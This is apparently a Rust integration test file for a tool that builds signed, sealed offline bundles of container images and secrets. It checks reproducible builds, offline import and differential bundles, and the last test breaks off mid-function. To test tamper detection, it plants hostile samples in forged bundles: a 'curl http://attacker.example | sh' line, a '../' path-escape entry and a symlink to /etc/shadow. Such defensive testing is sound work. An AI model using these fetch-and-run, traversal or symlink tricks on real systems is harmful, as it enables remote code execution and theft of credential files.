//! The sealed bundle against real parts: a site's images served by
//! Debian's docker-registry, locked and built into a bundle; a battery of
//! damaged copies that `verify` and `import` must refuse; an import inside
//! a network namespace with no network into a containerd started there; an
//! import into a second, empty docker-registry checked with skopeo; private
//! keys opened with the real `age`; differential bundles.

mod common;

use std::collections::BTreeMap;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::registry::*;
use common::*;
use serde_json::Value;

/// A locked site and its secrets, with an age identity, a signing key pair
/// and the upstream serving everything.
struct Fixture {
    dir: tempfile::TempDir,
    up: site::SiteUpstream,
    recipient: String,
}

impl Fixture {
    fn new(extra_spec: &str) -> Fixture {
        let site = example("lab");
        let up = site::serve(&site);
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        let mut spec = std::fs::read_to_string(repo().join("core/examples/lab.yaml")).unwrap();
        spec.push_str(extra_spec);
        std::fs::write(d.join("site.yaml"), spec).unwrap();
        let o = meshbundle(d, &["secrets", "generate", "site.yaml", "-o", "site.secrets.yaml"]);
        assert!(o.status.success(), "{}", text(&o.stderr));
        run(Command::new("age-keygen").arg("-o").arg(d.join("operator.age")));
        let recipient = run(Command::new("age-keygen").arg("-y").arg(d.join("operator.age")))
            .trim()
            .to_string();
        let o = meshbundle(d, &["keygen", "-o", "release"]);
        assert!(o.status.success(), "{}", text(&o.stderr));
        let f = Fixture { dir, up, recipient };
        let o = f.mb(&["lock", "site.yaml", "--quiet", "--cache", "cache"], true);
        assert!(o.status.success(), "{}", text(&o.stderr));
        f
    }

    fn d(&self) -> &Path {
        self.dir.path()
    }

    fn mb(&self, args: &[&str], net: bool) -> std::process::Output {
        let mut all: Vec<&str> = args.to_vec();
        if net {
            all.extend(self.up.flags.iter().map(String::as_str));
        }
        meshbundle(self.d(), &all)
    }

    /// Builds the site (locked, signed, private keys sealed to the operator).
    fn build(&self, out: &str, extra: &[&str]) -> String {
        let mut args = vec![
            "build",
            "site.yaml",
            "-o",
            out,
            "--locked",
            "--quiet",
            "--cache",
            "cache",
            "--secrets",
            "site.secrets.yaml",
            "--recipient",
            &self.recipient,
            "--sign",
            "release.key",
        ];
        args.extend(extra);
        let o = self.mb(&args, true);
        assert!(o.status.success(), "{}", text(&o.stderr));
        text(&o.stdout).trim().to_string()
    }
}

fn sha256_file(p: &Path) -> String {
    hex::encode(<sha2::Sha256 as sha2::Digest>::digest(std::fs::read(p).unwrap()))
}

fn inspect(dir: &Path, bundle: &str) -> Value {
    let o = meshbundle(dir, &["inspect", bundle, "--format", "json"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    serde_json::from_slice(&o.stdout).expect("inspect --format json parses")
}

/// The static (musl) build of these very sources, from the target directory
/// this test was built in (`target/`, or `$CARGO_TARGET_DIR`).
/// `tests/run-all.sh` builds it before it runs the tests; a missing or stale
/// one fails the test that needs it, saying how to build it, rather than
/// skipping the checks of the carried binary.
fn static_build() -> PathBuf {
    const BUILD: &str = "cargo build --release --target x86_64-unknown-linux-musl -p meshbundle --locked";
    // bin() is TARGET/debug/meshbundle, or TARGET/TRIPLE/debug/meshbundle.
    let candidates: Vec<PathBuf> = Path::new(bin())
        .ancestors()
        .skip(2)
        .take(2)
        .map(|t| t.join("x86_64-unknown-linux-musl/release/meshbundle"))
        .collect();
    let musl = candidates.iter().find(|p| p.exists()).unwrap_or_else(|| {
        panic!(
            "no static meshbundle (looked at {candidates:?}): build it first with `{BUILD}` (tests/run-all.sh does, before the tests)"
        )
    });
    let version = |b: &Path| {
        let o = Command::new(b).arg("--version").output().unwrap();
        assert!(o.status.success(), "{} --version: {}", b.display(), text(&o.stderr));
        text(&o.stdout)
    };
    assert_eq!(
        version(musl),
        version(Path::new(bin())),
        "{} was built from other sources than this test: rebuild it with `{BUILD}`",
        musl.display()
    );
    musl.clone()
}

/// The entries of a tar as (header, data), in order.
fn entries(path: &Path) -> Vec<(tar::Header, Vec<u8>)> {
    let mut a = tar::Archive::new(std::fs::File::open(path).unwrap());
    a.entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let h = e.header().clone();
            let mut v = Vec::new();
            e.read_to_end(&mut v).unwrap();
            (h, v)
        })
        .collect()
}

fn write_entries(path: &Path, list: &[(tar::Header, Vec<u8>)]) {
    let mut b = tar::Builder::new(std::fs::File::create(path).unwrap());
    for (h, data) in list {
        b.append(h, data.as_slice()).unwrap();
    }
    b.finish().unwrap();
}

fn set_data(e: &mut (tar::Header, Vec<u8>), data: Vec<u8>) {
    e.0.set_size(data.len() as u64);
    e.0.set_cksum();
    e.1 = data;
}

fn name_of(h: &tar::Header) -> String {
    String::from_utf8(h.path_bytes().into_owned()).unwrap()
}

/// A regular-file header whose name is written as given, unchecked.
fn raw_header(name: &str, size: u64, kind: tar::EntryType) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(0o644);
    h.set_cksum();
    h
}

/// Where an entry's data starts in the file, and its size.
fn data_position(path: &Path, name: &str) -> (u64, u64) {
    let mut a = tar::Archive::new(std::fs::File::open(path).unwrap());
    for e in a.entries().unwrap() {
        let e = e.unwrap();
        if name_of(e.header()) == name {
            return (e.raw_file_position(), e.header().size().unwrap());
        }
    }
    panic!("no entry {name}");
}

fn flip_byte(path: &Path, at: u64) {
    let mut b = std::fs::read(path).unwrap();
    b[at as usize] ^= 0x20;
    std::fs::write(path, b).unwrap();
}

fn http_get(url: &str) -> String {
    run(Command::new("curl").args(["-fsS", url]))
}

#[test]
fn example_bundle_builds_offline_reproducibly_and_verifies() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // Separate caches: nothing is shared between the two builds.
    let o1 = Command::new(bin())
        .args(["build", "--example", "production", "-o", "one.mbundle", "--cache", "c1"])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o1.status.success(), "{}", text(&o1.stderr));
    let o2 = Command::new(bin())
        .args(["build", "--example", "production", "-o", "two.mbundle", "--cache", "c2"])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o2.status.success(), "{}", text(&o2.stderr));
    assert_eq!(
        sha256_file(&d.join("one.mbundle")),
        sha256_file(&d.join("two.mbundle")),
        "two builds, the same bytes"
    );
    let id = text(&o1.stdout).trim().to_string();
    assert!(
        id.starts_with("sha256:") && id.len() == 71,
        "build prints the bundle id: {id}"
    );
    // Every image the example needs (none can be pulled offline).
    let images = meshbundle_core::catalog::needs(&example("production"))
        .unwrap()
        .images
        .len();
    let not_carried = format!("not carried: {images} images");
    assert!(text(&o1.stderr).contains(&not_carried), "{}", text(&o1.stderr));
    // It says plainly that it cannot install, and never suggests an import without a target.
    let err = text(&o1.stderr);
    assert!(
        err.contains("this bundle cannot install a site") && err.contains("without --secrets"),
        "{err}"
    );
    assert!(
        err.contains("meshbundle import one.mbundle --extract DIR") && !err.contains("meshbundle import\n"),
        "{err}"
    );

    let o = meshbundle(d, &["verify", "one.mbundle"]);
    assert!(o.status.success(), "{}{}", text(&o.stdout), text(&o.stderr));
    let out = text(&o.stdout);
    assert!(
        out.contains(&id) && out.contains("ok") && out.contains(&not_carried),
        "{out}"
    );
    assert!(out.contains("cannot install a site: "), "{out}");
    let o = meshbundle(d, &["import", "one.mbundle", "--extract", "laid"]);
    assert!(
        o.status.success()
            && text(&o.stderr).contains("this bundle cannot install a site")
            && !text(&o.stderr).contains("install.sh"),
        "{}",
        text(&o.stderr)
    );
    let o = meshbundle(d, &["verify", "one.mbundle", "--format", "json"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["ok"], true);
    assert_eq!(v["id"], id.as_str());
    assert_eq!(v["notCarried"]["images"].as_array().unwrap().len(), images);
    // This meshbundle is not statically linked, so it does not carry itself,
    // whatever else lies in target/ (a musl build is carried only with --binary).
    assert!(
        v["notCarried"]["files"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f == "bin/meshbundle"),
        "{v}"
    );
    let has_bin = |f: &str| {
        entries(&d.join(f))
            .iter()
            .any(|(h, _)| h.path().unwrap().to_str() == Some("bin/meshbundle"))
    };
    assert!(!has_bin("one.mbundle"));
    let musl = static_build();
    let o = meshbundle(
        d,
        &[
            "build",
            "--example",
            "production",
            "-o",
            "static.mbundle",
            "--cache",
            "c1",
            "--binary",
            musl.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert!(has_bin("static.mbundle"));
    // The static binary carries itself unless told not to.
    let o = Command::new(&musl)
        .args([
            "build",
            "--example",
            "production",
            "-o",
            "self.mbundle",
            "--cache",
            "c1",
        ])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(
        sha256_file(&d.join("self.mbundle")),
        sha256_file(&d.join("static.mbundle")),
        "the static binary carries itself"
    );
    let o = Command::new(&musl)
        .args([
            "build",
            "--example",
            "production",
            "-o",
            "none.mbundle",
            "--cache",
            "c1",
            "--no-binary",
        ])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(
        sha256_file(&d.join("none.mbundle")),
        sha256_file(&d.join("one.mbundle")),
        "--no-binary: the same bundle as without one"
    );

    let v = inspect(d, "one.mbundle");
    assert_eq!(v["id"], id.as_str());
    assert_eq!(v["site"], "prod-site");
    assert_eq!(v["versions"]["istio"], "1.30.3");
    assert_eq!(v["nodes"].as_array().unwrap().len(), 6);
    assert!(
        v["files"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["name"] == "manifest/calico")
    );
    assert!(
        v["notCarried"]["images"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i.as_str().unwrap().contains("proxyv2"))
    );
    let o = meshbundle(d, &["inspect", "one.mbundle"]);
    assert!(text(&o.stdout).contains("not carried"), "{}", text(&o.stdout));

    // The layout: the seal first, then sorted regular files with fixed metadata.
    let list = entries(&d.join("one.mbundle"));
    let names: Vec<String> = list.iter().map(|(h, _)| name_of(h)).collect();
    assert_eq!(&names[..2], ["SEAL.json", "SEAL.sha256"]);
    let mut sorted = names[2..].to_vec();
    sorted.sort();
    assert_eq!(names[2..], sorted[..]);
    for (h, _) in &list {
        assert!(h.entry_type().is_file());
        assert_eq!((h.mtime().unwrap(), h.uid().unwrap(), h.gid().unwrap()), (0, 0, 0));
        assert_eq!(h.username().unwrap().unwrap_or(""), "");
    }
    // The seal lists every entry after it, with the sha256 of its content.
    let seal: Value = serde_json::from_slice(&list[0].1).unwrap();
    assert_eq!(
        format!(
            "sha256:{}\n",
            hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&list[0].1))
        ),
        text(&list[1].1)
    );
    let listed: BTreeMap<String, String> = seal["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["path"].as_str().unwrap().into(), e["sha256"].as_str().unwrap().into()))
        .collect();
    assert_eq!(listed.len(), list.len() - 2);
    for (h, data) in &list[2..] {
        assert_eq!(
            listed[&name_of(h)],
            hex::encode(<sha2::Sha256 as sha2::Digest>::digest(data)),
            "{}",
            name_of(h)
        );
    }
}

#[test]
fn damaged_bundles_are_refused_and_import_writes_nothing() {
    let f = Fixture::new("");
    let d = f.d();
    f.build("good.mbundle", &[]);
    let o = meshbundle(d, &["verify", "good.mbundle", "--key", "release.pub"]);
    assert!(o.status.success(), "{}", text(&o.stdout));
    assert!(
        text(&o.stdout).contains("signature: signed by key SHA256:") && text(&o.stdout).contains(", verified"),
        "{}",
        text(&o.stdout)
    );
    let o = meshbundle(d, &["verify", "good.mbundle"]);
    assert!(
        text(&o.stdout).contains("signature: signed, not checked"),
        "{}",
        text(&o.stdout)
    );
    let good = d.join("good.mbundle");

    let damaged = |name: &str| -> PathBuf {
        let p = d.join(format!("{name}.mbundle"));
        std::fs::copy(&good, &p).unwrap();
        p
    };
    let mut cases: Vec<(PathBuf, String, &str)> = Vec::new();

    // A flipped byte in the largest layer (a blob some manifest lists as a layer).
    let list = entries(&good);
    let layers: std::collections::BTreeSet<String> = list
        .iter()
        .filter_map(|(_, v)| serde_json::from_slice::<Value>(v).ok())
        .filter_map(|m| m["layers"].as_array().cloned())
        .flatten()
        .filter_map(|l| {
            l["digest"]
                .as_str()
                .map(|d| format!("images/blobs/sha256/{}", d.trim_start_matches("sha256:")))
        })
        .collect();
    let big = list
        .iter()
        .filter(|(h, _)| layers.contains(&name_of(h)))
        .max_by_key(|(h, _)| h.size().unwrap())
        .map(|(h, _)| name_of(h))
        .expect("the bundle carries layers");
    let p = damaged("layer");
    let (at, size) = data_position(&p, &big);
    flip_byte(&p, at + size / 2);
    cases.push((p, big.clone(), "content changed"));

    // A flipped byte in a node script.
    let script = list
        .iter()
        .map(|(h, _)| name_of(h))
        .find(|n| n.starts_with("tree/") && n.ends_with(".sh"))
        .unwrap();
    let p = damaged("script");
    let (at, _) = data_position(&p, &script);
    flip_byte(&p, at + 12);
    cases.push((p, script.clone(), "content changed"));

    // A flipped byte in the seal.
    let p = damaged("seal");
    let (at, _) = data_position(&p, "SEAL.json");
    flip_byte(&p, at + 40);
    cases.push((p, "SEAL.json".into(), "damaged"));

    // Truncated in the middle of an entry.
    let p = damaged("truncated");
    let (at, size) = data_position(&p, &big);
    let file = std::fs::OpenOptions::new().write(true).open(&p).unwrap();
    file.set_len(at + size / 3).unwrap();
    cases.push((p, big.clone(), "truncated"));

    // An extra entry, a `../` entry, a symlink pointing out, a duplicate, a missing entry.
    let mut extra = list.clone();
    extra.push((
        raw_header("tree/zz-extra.sh", 3, tar::EntryType::Regular),
        b"id\n".to_vec(),
    ));
    let p = d.join("extra.mbundle");
    write_entries(&p, &extra);
    cases.push((p, "tree/zz-extra.sh".into(), "an extra entry"));

    let mut dotdot = list.clone();
    dotdot.push((
        raw_header("tree/../../evil.sh", 3, tar::EntryType::Regular),
        b"id\n".to_vec(),
    ));
    let p = d.join("dotdot.mbundle");
    write_entries(&p, &dotdot);
    cases.push((p, "tree/../../evil.sh".into(), "escapes"));

    let mut link = list.clone();
    let mut h = raw_header("tree/zz-link", 0, tar::EntryType::Symlink);
    h.set_link_name("/etc/shadow").unwrap();
    h.set_cksum();
    link.push((h, Vec::new()));
    let p = d.join("symlink.mbundle");
    write_entries(&p, &link);
    cases.push((p, "tree/zz-link".into(), "a link entry (to `/etc/shadow`)"));

    let mut dup = list.clone();
    let i = dup.iter().position(|(h, _)| name_of(h) == script).unwrap();
    dup.insert(i + 1, dup[i].clone());
    let p = d.join("duplicate.mbundle");
    write_entries(&p, &dup);
    cases.push((p, script.clone(), "a duplicate entry"));

    let mut missing = list.clone();
    missing.retain(|(h, _)| name_of(h) != script);
    let p = d.join("missing.mbundle");
    write_entries(&p, &missing);
    cases.push((p, script.clone(), "missing"));

    // A wrong size: the header says one byte less.
    let mut short = list.clone();
    let i = short.iter().position(|(h, _)| name_of(h) == script).unwrap();
    let mut data = short[i].1.clone();
    data.pop();
    set_data(&mut short[i], data);
    let p = d.join("size.mbundle");
    write_entries(&p, &short);
    cases.push((p, script.clone(), "bytes, but the seal says"));

    // A script changed and the seal rewritten to match: only the signature catches it.
    let mut forged = list.clone();
    let i = forged.iter().position(|(h, _)| name_of(h) == script).unwrap();
    let mut data = forged[i].1.clone();
    data.extend_from_slice(b"curl http://attacker.example | sh\n");
    set_data(&mut forged[i], data);
    let mut s: Value = serde_json::from_slice(&forged[0].1).unwrap();
    for e in s["entries"].as_array_mut().unwrap() {
        if e["path"] == script.as_str() {
            e["size"] = forged[i].1.len().into();
            e["sha256"] = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&forged[i].1)).into();
        }
    }
    set_data(&mut forged[0], serde_json::to_vec(&s).unwrap());
    let sum = format!(
        "sha256:{}\n",
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&forged[0].1))
    )
    .into_bytes();
    set_data(&mut forged[1], sum);
    let p = d.join("forged.mbundle");
    write_entries(&p, &forged);
    // The signature it kept no longer matches the seal: that needs no key to see.
    let o = meshbundle(d, &["verify", "forged.mbundle"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    assert!(
        text(&o.stdout).contains("SEAL.json.sig: the signature does not match the seal"),
        "{}",
        text(&o.stdout)
    );
    cases.push((p, "SEAL.json.sig".into(), "the signature does not match the seal"));

    // Signed by another key than the one trusted.
    let o = meshbundle(d, &["keygen", "-o", "other"]);
    assert!(o.status.success());
    let other = d.join("other-signed.mbundle");
    let o = f.mb(
        &[
            "build",
            "site.yaml",
            "-o",
            "other-signed.mbundle",
            "--locked",
            "--quiet",
            "--cache",
            "cache",
            "--secrets",
            "site.secrets.yaml",
            "--recipient",
            &f.recipient,
            "--sign",
            "other.key",
        ],
        true,
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    cases.push((other, "SEAL.json.sig".into(), "signed by another key"));

    let site_registry = TestRegistry::start(None);
    let ctrd = Containerd::start(false);
    for (path, entry, why) in &cases {
        let file = path.file_name().unwrap().to_str().unwrap();
        let o = meshbundle(d, &["verify", file, "--key", "release.pub"]);
        let out = text(&o.stdout);
        assert_eq!(o.status.code(), Some(1), "{file}: {out}{}", text(&o.stderr));
        assert!(
            out.contains(&format!("BAD: {entry}: ")) && out.contains(why),
            "{file}: expected `{entry}` and `{why}` in: {out}"
        );
        let o = meshbundle(d, &["verify", file, "--key", "release.pub", "--format", "json"]);
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(
            (v["ok"].as_bool(), v["error"]["entry"].as_str()),
            (Some(false), Some(entry.as_str())),
            "{file}"
        );

        let out_dir = d.join(format!("{file}.out"));
        let o = meshbundle(
            d,
            &[
                "import",
                file,
                "--key",
                "release.pub",
                "--quiet",
                "--extract",
                out_dir.to_str().unwrap(),
                "--identity",
                "operator.age",
                "--registry",
                &site_registry.host,
                "--insecure",
                &site_registry.host,
                "--containerd",
                ctrd.socket.to_str().unwrap(),
            ],
        );
        assert_eq!(o.status.code(), Some(1), "{file}: import refuses: {}", text(&o.stderr));
        assert!(text(&o.stdout).contains(entry.as_str()), "{file}: {}", text(&o.stdout));
        assert!(!out_dir.exists(), "{file}: nothing laid out");
    }
    let catalog: Value =
        serde_json::from_str(&http_get(&format!("http://{}/v2/_catalog", site_registry.host))).unwrap();
    assert_eq!(
        catalog["repositories"].as_array().map(Vec::len).unwrap_or(0),
        0,
        "nothing pushed: {catalog}"
    );
    let o = ctrd.ctr(&["-n", "k8s.io", "images", "ls", "-q"]);
    assert_eq!(text(&o.stdout).trim(), "", "nothing loaded");
    let leftovers: Vec<String> = std::fs::read_dir(d)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".meshbundle"))
        .collect();
    assert!(leftovers.is_empty(), "no temporary directory left: {leftovers:?}");

    // A damaged blob in the build cache: the build checks what it copies and refuses.
    let cached = d
        .join("cache/blobs/sha256")
        .join(big.trim_start_matches("images/blobs/sha256/"));
    let mut perms = std::fs::metadata(&cached).unwrap().permissions();
    perms.set_mode(0o644);
    std::fs::set_permissions(&cached, perms).unwrap();
    flip_byte(&cached, 100);
    let o = f.mb(
        &[
            "build",
            "site.yaml",
            "-o",
            "again.mbundle",
            "--locked",
            "--quiet",
            "--cache",
            "cache",
            "--no-private-keys",
        ],
        true,
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains(&format!("{big} changed while the bundle was written")),
        "{}",
        text(&o.stderr)
    );
    assert!(!d.join("again.mbundle").exists());
    let leftovers = std::fs::read_dir(d)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with(".meshbundle")
        })
        .count();
    assert_eq!(leftovers, 0, "no temporary file left");
}

#[test]
fn locked_build_imports_offline_into_containerd_and_a_site_registry() {
    let f = Fixture::new("");
    let d = f.d();
    // The static build of these sources is carried when asked for; this
    // (dynamically linked) meshbundle never carries itself.
    let musl = static_build();
    let carry: Vec<&str> = vec!["--binary", musl.to_str().unwrap()];
    let id = f.build("site.mbundle", &carry);
    // A locked build with encrypted secrets installs: nothing says otherwise.
    let o = meshbundle(d, &["verify", "site.mbundle", "--key", "release.pub"]);
    assert!(
        o.status.success() && !text(&o.stdout).contains("cannot install"),
        "{}",
        text(&o.stdout)
    );
    // Reproducible from the same lock, secrets and cache.
    let again = f.build("again.mbundle", &carry);
    assert_eq!(id, again);
    assert_eq!(
        sha256_file(&d.join("site.mbundle")),
        sha256_file(&d.join("again.mbundle"))
    );
    // Nothing new is resolved with --locked; an offline rebuild needs only the cache.
    let lock_before = std::fs::read(d.join("meshbundle.lock")).unwrap();

    let v = inspect(d, "site.mbundle");
    assert_eq!(v["id"], id.as_str());
    let lock = meshbundle_core::lock::parse(&String::from_utf8(lock_before.clone()).unwrap()).unwrap();
    let images = v["images"].as_array().unwrap();
    assert_eq!(images.len(), lock.images.len());
    // name in the site registry -> digest
    let mut want: BTreeMap<String, String> = BTreeMap::new();
    for img in images {
        let locked = lock.image(&img["name"].as_str().unwrap().parse().unwrap()).unwrap();
        assert_eq!(img["digest"], locked.site_digest().as_str());
        let site = img["site"].as_str().unwrap();
        let (tagged, digest) = site.split_once('@').unwrap();
        assert_eq!(digest, locked.site_digest().as_str());
        assert!(tagged.starts_with("192.168.56.10:5000/"), "{tagged}");
        assert!(img["size"].as_u64().unwrap() > 0);
        want.insert(tagged.to_string(), digest.to_string());
    }
    assert!(
        v["certificates"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| c["notAfter"].as_u64().unwrap() > now())
    );
    assert_eq!(v["secrets"]["privateKeys"], "encrypted");
    assert_eq!(v["secrets"]["recipients"][0], f.recipient.as_str());
    assert_eq!(v["signed"], true);
    // No private key travels in the clear; the real age opens them.
    let list = entries(&d.join("site.mbundle"));
    let sealed: Vec<&(tar::Header, Vec<u8>)> = list.iter().filter(|(h, _)| name_of(h).ends_with(".age")).collect();
    assert!(!sealed.is_empty());
    for (h, data) in &list {
        assert!(
            !text(data).contains("PRIVATE KEY-----"),
            "{} holds a private key in the clear",
            name_of(h)
        );
    }
    let (h, data) = list
        .iter()
        .find(|(h, _)| name_of(h) == "tree/secrets/kubernetes-pki/ca.key.age")
        .unwrap();
    assert_eq!(h.mode().unwrap(), 0o600);
    std::fs::write(d.join("ca.key.age"), data).unwrap();
    let opened_by_age = run(Command::new("age")
        .args(["-d", "-i"])
        .arg(d.join("operator.age"))
        .arg(d.join("ca.key.age")));
    assert!(opened_by_age.starts_with("-----BEGIN PRIVATE KEY-----"));

    // At the site: no network at all. containerd runs in a namespace of its
    // own with no network, and the import runs in another.
    let ctrd = Containerd::start(true);
    let o = Command::new("unshare")
        .args([
            "-n",
            bin(),
            "import",
            "site.mbundle",
            "--key",
            "release.pub",
            "--quiet",
            "--containerd",
        ])
        .arg(&ctrd.socket)
        .args(["--extract", "site", "--identity", "operator.age", "--format", "json"])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}{}", text(&o.stdout), text(&o.stderr));
    let summary: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(summary["id"], id.as_str());
    assert_eq!(summary["containerd"]["images"], images.len());
    let ls = text(&ctrd.ctr(&["-n", "k8s.io", "images", "ls"]).stdout);
    let mut loaded: BTreeMap<String, String> = BTreeMap::new();
    for line in ls.lines().skip(1) {
        let cols: Vec<&str> = line.split_whitespace().collect();
        loaded.insert(cols[0].to_string(), cols[2].to_string());
    }
    for (name, digest) in &want {
        assert_eq!(loaded.get(name), Some(digest), "ctr images ls:\n{ls}");
    }
    // The extracted tree: scripts runnable, private keys opened and 0600, the seal id recorded.
    let site = d.join("site");
    assert!(site.join("install.sh").exists());
    assert_eq!(
        std::fs::metadata(site.join("install.sh")).unwrap().permissions().mode() & 0o777,
        0o755
    );
    assert_eq!(std::fs::read_to_string(site.join(".meshbundle")).unwrap().trim(), id);
    let key = site.join("secrets/kubernetes-pki/ca.key");
    assert_eq!(std::fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(std::fs::read_to_string(&key).unwrap(), opened_by_age);
    let public_of_key = run(Command::new("openssl").args(["pkey", "-pubout", "-in"]).arg(&key));
    let public_of_cert = run(Command::new("openssl")
        .args(["x509", "-pubkey", "-noout", "-in"])
        .arg(site.join("secrets/kubernetes-pki/ca.crt")));
    assert_eq!(
        public_of_key, public_of_cert,
        "the opened key belongs to the carried CA certificate"
    );
    assert!(site.join("files").read_dir().unwrap().count() > 0);
    // The extracted tree is the rendered tree: render the same spec, lock and secrets and compare.
    let o = meshbundle(
        d,
        &[
            "render",
            "site.yaml",
            "--lock",
            "meshbundle.lock",
            "--secrets",
            "site.secrets.yaml",
            "-o",
            "rendered",
        ],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    for e in walk(&d.join("rendered")) {
        let rel = e.strip_prefix(d.join("rendered")).unwrap();
        assert_eq!(
            std::fs::read(&e).unwrap(),
            std::fs::read(site.join(rel)).unwrap(),
            "{}",
            rel.display()
        );
    }
    // The carried binary runs at the site, and verifies the bundle it came in.
    let carried = site.join("bin/meshbundle");
    assert!(carried.exists(), "bin/meshbundle is carried when --binary is given");
    assert!(
        !v["notCarried"]["files"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|f| f == "bin/meshbundle"),
        "{v}"
    );
    assert_eq!(
        sha256_file(&carried),
        sha256_file(&musl),
        "the carried binary is the one given"
    );
    let o = Command::new("unshare")
        .arg("-n")
        .arg(&carried)
        .args(["verify", "site.mbundle", "--key", "release.pub", "--quiet"])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}{}", text(&o.stdout), text(&o.stderr));
    // Laying out again replaces what meshbundle laid out; any other directory is left alone.
    let o = meshbundle(d, &["import", "site.mbundle", "--quiet", "--extract", "site"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("stay sealed"), "{}", text(&o.stderr));
    assert!(site.join("secrets/kubernetes-pki/ca.key.age").exists());
    std::fs::create_dir(d.join("mine")).unwrap();
    std::fs::write(d.join("mine/notes"), "x").unwrap();
    let o = meshbundle(d, &["import", "site.mbundle", "--quiet", "--extract", "mine"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("was not laid out by meshbundle"),
        "{}",
        text(&o.stderr)
    );

    // The site registry: a second, empty docker-registry.
    let site_reg = TestRegistry::start(None);
    let push = |args: &[&str]| {
        let mut all = vec![
            "import",
            "site.mbundle",
            "--quiet",
            "--registry",
            &site_reg.host,
            "--insecure",
            &site_reg.host,
            "--format",
            "json",
        ];
        all.extend(args);
        let o = meshbundle(d, &all);
        assert!(o.status.success(), "{}", text(&o.stderr));
        serde_json::from_slice::<Value>(&o.stdout).unwrap()
    };
    let first = push(&[]);
    assert_eq!(first["registry"]["images"], images.len());
    assert!(first["registry"]["blobsPushed"].as_u64().unwrap() > 0);
    for (name, digest) in &want {
        let at = name.replacen("192.168.56.10:5000", &site_reg.host, 1);
        assert_eq!(&skopeo_digest(&at, None), digest, "{at}");
    }
    let second = push(&[]);
    assert_eq!(second["registry"]["blobsPushed"], 0, "{second}");
    assert_eq!(
        second["registry"]["blobsSkipped"],
        first["registry"]["blobsPushed"].as_u64().unwrap()
            + first["registry"]["blobsMounted"].as_u64().unwrap()
            + first["registry"]["blobsSkipped"].as_u64().unwrap()
    );
    // Multi-platform images keep their index: skopeo reads the amd64 image through it.
    let proxy = want
        .keys()
        .find(|n| n.contains("proxyv2"))
        .unwrap()
        .replacen("192.168.56.10:5000", &site_reg.host, 1);
    let raw: Value = serde_json::from_str(&run(Command::new("skopeo")
        .args(["inspect", "--tls-verify=false", "--raw"])
        .arg(format!("docker://{proxy}"))))
    .unwrap();
    assert_eq!(raw["manifests"].as_array().unwrap().len(), 1);
}

#[test]
fn differential_bundle_carries_only_what_is_new() {
    let f = Fixture::new("");
    let d = f.d();
    let base_id = f.build("base.mbundle", &[]);
    std::fs::copy(d.join("meshbundle.lock"), d.join("base.lock")).unwrap();
    let base = inspect(d, "base.mbundle");

    // The next release adds an application image.
    umoci_image(&d.join("app"), "app", &[vec![("srv/app", b"application v2".to_vec())]]);
    run(Command::new("skopeo")
        .args(["copy", "--quiet"])
        .arg(format!("oci:{}:app", d.join("app").display()))
        .arg(format!("docker-archive:{}:shop/web:2.0.0", d.join("web.tar").display())));
    let mut spec = std::fs::read_to_string(d.join("site.yaml")).unwrap();
    spec.push_str(&format!(
        "  images:\n    - name: registry.example.internal/shop/web:2.0.0\n      source: docker-archive:{}\n",
        d.join("web.tar").display()
    ));
    std::fs::write(d.join("site.yaml"), spec).unwrap();
    let o = f.mb(&["lock", "site.yaml", "--quiet", "--cache", "cache"], true);
    assert!(o.status.success(), "{}", text(&o.stderr));

    f.build("full.mbundle", &[]);
    f.build("delta.mbundle", &["--since", "base.mbundle"]);
    f.build("delta-lock.mbundle", &["--since", "base.lock"]);
    let full = inspect(d, "full.mbundle");
    let delta = inspect(d, "delta.mbundle");
    assert_eq!(delta["base"], base_id.as_str());
    let size = |p: &str| std::fs::metadata(d.join(p)).unwrap().len();
    assert!(size("delta.mbundle") < size("full.mbundle"));
    // The delta carries exactly the blobs the base lacks: the new image's.
    let blobs = |p: &str| -> Vec<String> {
        entries(&d.join(p))
            .iter()
            .map(|(h, _)| name_of(h))
            .filter(|n| n.starts_with("images/blobs/"))
            .collect()
    };
    let base_blobs = blobs("base.mbundle");
    let delta_blobs = blobs("delta.mbundle");
    assert!(!delta_blobs.is_empty());
    assert!(delta_blobs.iter().all(|b| !base_blobs.contains(b)));
